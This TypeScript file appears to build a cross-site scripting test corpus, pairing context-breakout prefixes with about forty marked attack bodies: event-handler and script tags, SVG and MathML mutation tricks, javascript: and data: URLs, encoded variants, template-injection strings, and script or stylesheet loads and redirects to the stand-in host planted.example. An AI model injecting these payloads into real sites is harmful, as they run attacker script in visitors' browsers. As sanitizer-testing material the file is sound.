/** What gets a text out of where it may stand: an attribute, a comment, an element whose text is no markup. */
const outs = [
  ...['', '">', "'>", '-->', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', ']]>'],
  ...['</template>', '</select>', '\u2028</p>', '"\u00a0', "' ", '`>', '</svg>', '</math>', '*/', '\\">'],
]
const run = 'window.ran=1,alert(1)'
const mark = 'data-planted'
const far = 'https://planted.example'

/** Markup that would run, load or change something; each element is marked, or names a site that is marked. */
const bodies = [
  `<script ${mark}>${run}</script>`,
  `<script ${mark} src=${far}/a.js></script>`,
  `<img ${mark} src=x onerror=${run}>`,
  `<ImG ${mark}/src=x/OnErRoR=${run}//`,
  `<img ${mark} srcset="x 1x" onerror="${run}">`,
  `<svg ${mark} onload=${run}>`,
  `<svg ${mark}><script>${run}</script></svg>`,
  `<svg ${mark}><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg ${mark}><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<math ${mark}><mtext><style><img ${mark} src=x onerror=${run}></style></mtext></math>`,
  `<iframe ${mark} srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe ${mark} src="javascript:${run}"></iframe>`,
  `<object ${mark} data="javascript:${run}"></object>`,
  `<embed ${mark} src="data:text/html,<script>${run}</script>">`,
  `<video ${mark} onerror=${run}><source src=x></video>`,
  `<audio ${mark} src=x onerror=${run}></audio>`,
  `<details ${mark} open ontoggle=${run}>`,
  `<input ${mark} autofocus onfocus=${run}>`,
  `<select ${mark} autofocus onfocus=${run}>`,
  `<textarea ${mark} autofocus onfocus=${run}>`,
  `<marquee ${mark} onstart=${run}>`,
  `<body ${mark} onload=${run}>`,
  `<style ${mark}>@import '${far}/a.css';*{display:none}</style>`,
  `<link ${mark} rel=stylesheet href=${far}/a.css>`,
  `<meta ${mark} http-equiv=refresh content="0;url=${far}/">`,
  `<base ${mark} href=${far}/>`,
  `<form ${mark} action=${far}/><button>x</button></form>`,
  `<a ${mark} href="javascript:${run}">x</a>`,
  `<a ${mark} href=" jav&#x09;ascript:${run}">x</a>`,
  `<template ${mark}><img src=x onerror=${run}></template>`,
  `onmouseover=${run} ${mark}=" autofocus onfocus=${run}`,
  `javascript:${run}//${far}`,
  `data:text/html,<script ${mark}>${run}</script>`,
  `[x](javascript:${run}) ![x](${far}/a.png"onerror="${run})`,
  `&lt;img ${mark} src=x onerror=${run}&gt;`,
  `%3Cimg%20${mark}%20src%3Dx%20onerror%3D${run}%3E`,
  `\\u003cimg ${mark} src=x onerror=${run}\\u003e`,
  `{{constructor.constructor('${run}')()}}<i ${mark}>`,
  `\${${run}}<%= ${run} %><i ${mark}>`,
  `__proto__[innerHTML]=<img ${mark} src=x onerror=${run}>`,
]

export const payloads: string[] = outs.flatMap((out) => bodies.map((body) => `${out}${body}`))
